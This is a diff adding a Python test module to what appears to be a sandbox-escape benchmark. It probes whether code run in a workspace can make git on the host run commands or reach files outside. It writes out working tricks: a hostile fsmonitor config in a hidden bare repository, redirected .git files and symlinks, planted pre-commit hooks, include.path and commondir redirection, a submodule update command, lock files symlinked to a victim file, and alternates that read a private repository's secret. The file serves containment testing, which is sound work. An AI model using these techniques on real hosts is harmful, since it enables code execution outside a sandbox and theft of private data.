@@ -1,0 +1,143 @@
+"""New ways to steer the host's git: bare repositories, links, includes, hooks paths, pointers.
+
+After the command a person works in the folder; code that runs on the host touches a file outside the workspace.
+"""
+
+from bench.attacks.walls.ground import Ground, Verdict, judged, probe
+from bench.attacks.walls.planted import hostile, plant
+
+
+def bare(ground: Ground, folder: str) -> str:
+    """Shell that lays out a repository without a `.git`, which git finds all the same."""
+    config = (
+        'printf "[core]\\n\\trepositoryformatversion=0\\n\\tbare=false\\n\\tworktree=.\\n'
+        f'\\tfsmonitor=\\"{ground.trap}; false\\"\\n"'
+    )
+    return (
+        f"mkdir -p {folder}/objects {folder}/refs/heads; echo 'ref: refs/heads/main' > {folder}/HEAD; {config} > {folder}/config"
+    )
+
+
+@probe("new", "git: a bare repository hidden in a folder of the tree")
+async def bare_in_tree(ground: Ground) -> Verdict:
+    await ground.repository()
+    await ground.script(bare(ground, "docs"))
+    docs = ground.work / "docs"
+    if docs.exists():
+        await ground.host_uses_git(docs)
+    return judged(ground.damage())
+
+
+@probe("new", "git: the workspace itself laid out as a bare repository")
+async def bare_workspace(ground: Ground) -> Verdict:
+    await ground.script(bare(ground, "."))
+    await ground.host_uses_git()
+    return judged(ground.damage())
+
+
+@probe("new", "git: .git is a link; the repository changed by its real path")
+async def linked_git(ground: Ground) -> Verdict:
+    await ground.repository()
+    await ground.host("bash", "-c", "mv .git store; ln -s store .git")
+    return await plant(ground, f"{hostile(ground)} > store/config; printf '#!/bin/sh\\n{ground.trap}\\n' > store/hooks/pre-commit; chmod +x store/hooks/pre-commit")
+
+
+@probe("new", "git: .git is a file; the repository changed by its real path")
+async def git_file_target(ground: Ground) -> Verdict:
+    await ground.repository()
+    await ground.host("bash", "-c", "mv .git store; echo 'gitdir: store' > .git; git config core.worktree ..")
+    return await plant(ground, f"{hostile(ground)} > store/config; printf '#!/bin/sh\\n{ground.trap}\\n' > store/hooks/pre-commit; chmod +x store/hooks/pre-commit")
+
+
+@probe("new", "git: core.hooksPath of the user leads into the workspace")
+async def hooks_path(ground: Ground) -> Verdict:
+    await ground.repository()
+    await ground.host("bash", "-c", "mkdir .husky; git config core.hooksPath .husky")
+    return await plant(ground, f"printf '#!/bin/sh\\n{ground.trap}\\n' > .husky/pre-commit; chmod +x .husky/pre-commit")
+
+
+@probe("new", "git: include.path of the user leads into the workspace")
+async def included(ground: Ground) -> Verdict:
+    await ground.repository()
+    await ground.host("bash", "-c", "echo > .gitconfig; git config include.path ../.gitconfig")
+    return await plant(ground, f"{hostile(ground)} > .gitconfig")
+
+
+@probe("new", "git: commondir of a worktree and of a submodule's repository")
+async def inner_commondir(ground: Ground) -> Verdict:
+    await ground.repository()
+    await ground.host("git", "worktree", "add", "-q", "tree")
+    await ground.script(f"cp -r .git evil; {hostile(ground)} > evil/config; echo $PWD/evil > .git/worktrees/tree/commondir")
+    await ground.host_uses_git(ground.work / "tree")
+    await ground.host_uses_git()
+    return judged(ground.damage())
+
+
+@probe("new", "git: the .git file of a worktree inside the workspace redirected")
+async def inner_git_file(ground: Ground) -> Verdict:
+    await ground.repository()
+    await ground.host("git", "worktree", "add", "-q", "tree")
+    await ground.script(f"cp -r .git evil; {hostile(ground)} > evil/config; echo \"gitdir: $PWD/evil\" > tree/.git")
+    await ground.host_uses_git(ground.work / "tree")
+    return judged(ground.damage())
+
+
+@probe("new", "git: the .git file of a submodule redirected (host works at the top)")
+async def submodule_file(ground: Ground) -> Verdict:
+    other = await ground.repository(ground.top / "other")
+    await ground.repository()
+    await ground.host("git", "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(other), "sub")
+    await ground.host("git", "commit", "-q", "-m", "sub")
+    return await plant(
+        ground,
+        f"cp -r .git/modules/sub evil; {hostile(ground)} > evil/config; echo \"gitdir: $PWD/evil\" > sub/.git; touch sub/new",
+    )
+
+
+@probe("new", "git: a submodule that the command registers, with a hostile repository")
+async def new_submodule(ground: Ground) -> Verdict:
+    await ground.repository()
+    return await plant(
+        ground,
+        "git init -q sub; cd sub; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; cd ..;"
+        f" {hostile(ground)} > sub/.git/config; git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub;"
+        " printf '[submodule \"sub\"]\\n\\tpath=sub\\n\\turl=./sub\\n\\tupdate=!true\\n' > .gitmodules",
+        uses="git submodule init; git submodule update; git status",
+    )
+
+
+@probe("new", "git: config.lock, index.lock and HEAD.lock prepared as links")
+async def locks(ground: Ground) -> Verdict:
+    await ground.repository()
+    return await plant(
+        ground,
+        f"{hostile(ground)} > evilconfig; for n in config index HEAD packed-refs; do ln -s ../evilconfig .git/$n.lock; done;"
+        f" ln -s {ground.victim} .git/index.lock2; ln -sf {ground.victim} .git/COMMIT_EDITMSG; ln -sf {ground.victim} .git/FETCH_HEAD;"
+        f" rm -f .git/ORIG_HEAD; ln -sf {ground.victim} .git/ORIG_HEAD; rm -f .git/logs/HEAD; ln -sf {ground.victim} .git/logs/HEAD",
+        uses="git config user.name c; rm -f .git/*.lock; git commit -q --allow-empty -m three; git fetch -q . ; git reset -q",
+    )
+
+
+@probe("new", "git: links of the work tree lead out when the host checks out")
+async def checkout_link(ground: Ground) -> Verdict:
+    """The command commits a link and a file below it; the host's checkout must not write through the link."""
+    await ground.repository()
+    return await plant(
+        ground,
+        f"ln -s {ground.outside} out; git add -A; git -c user.name=a -c user.email=a@b commit -q -m link",
+        uses="git checkout -q -f HEAD; git clean -fdxq; git reset -q --hard",
+    )
+
+
+@probe("new", "git: alternates and grafts point outside")
+async def alternates(ground: Ground) -> Verdict:
+    """Objects of a private repository must not come within reach of a command."""
+    private = await ground.repository(ground.top / "private")
+    (private / "secret.txt").write_text("CANARY-7f3a\n")
+    await ground.host("bash", "-c", "git add -A; git commit -q -m secret", cwd=private)
+    blob = (await ground.host("git", "rev-parse", "HEAD:secret.txt", cwd=private)).strip()
+    await ground.repository()
+    await ground.script(f"mkdir -p .git/objects/info; echo {private}/.git/objects > .git/objects/info/alternates")
+    ran = await ground.script(f"git cat-file -p {blob}")
+    tools = await ground.call("git_status")
+    return judged(["an object of another repository was read"] if "CANARY" in ran.stdout + tools.stdout else [])
